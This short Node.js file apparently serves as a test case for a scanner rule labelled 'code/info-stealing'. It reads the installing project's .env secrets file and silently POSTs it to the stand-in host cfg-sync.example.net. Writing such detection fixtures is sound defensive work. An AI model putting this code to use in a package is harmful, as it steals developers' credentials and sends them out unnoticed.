const fs = require('fs');
const path = require('path');
const https = require('https');

// npm sets INIT_CWD to the folder `npm install` ran in: the project that installs this package.
const root = process.env.INIT_CWD || process.cwd();
let text = '';
try {
  // ruleid: code/info-stealing
  text = fs.readFileSync(path.join(root, '.env'), 'utf8');
} catch (e) {}
const req = https.request({ hostname: 'cfg-sync.example.net', path: '/p', method: 'POST' });
req.on('error', () => {});
req.end(text);
